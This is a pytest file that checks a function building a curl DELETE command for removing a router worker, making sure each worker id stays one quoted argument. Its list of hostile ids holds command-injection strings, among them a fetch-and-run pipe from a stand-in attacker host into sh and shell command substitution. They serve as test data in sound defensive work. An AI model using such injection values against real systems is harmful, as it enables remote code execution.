"""The command that drops a worker the config does not name: whatever id the router answers, it stays one argument."""

import shlex

import pytest

from pdtui.engine.router_proving import drop_command

HOSTILE_IDS = ["abc; curl -s http://evil.example/x | sh; #", "$(touch /tmp/pwned)", "`id`", "a b", "'\"", "../../x",
               "x\ny", "%2e%2e", "\x1b]52;c;cHduZWQ=\x07"]


@pytest.mark.parametrize("worker_id", HOSTILE_IDS)
def test_a_hostile_worker_id_is_one_url_argument_of_curl(worker_id):
    words = shlex.split(drop_command("10.0.0.5", 30001, worker_id, None))
    assert words[:3] == ["curl", "-X", "DELETE"] and len(words) == 4
    assert words[3].startswith("http://10.0.0.5:30001/workers/")
    assert "/" not in words[3].removeprefix("http://10.0.0.5:30001/workers/")
    assert all(c.isprintable() and c not in " ;$`|&'\"\\" for c in words[3])


def test_a_plain_id_reads_as_the_router_wrote_it():
    assert drop_command("10.0.0.5", 30001, "3f2a-11", None) == "curl -X DELETE http://10.0.0.5:30001/workers/3f2a-11"


def test_the_api_key_is_named_by_its_variable_for_the_shell_to_expand():
    words = shlex.split(drop_command("h", 1, "w", "ROUTER_API_KEY"))
    assert words[3:5] == ["-H", "Authorization: Bearer $ROUTER_API_KEY"]
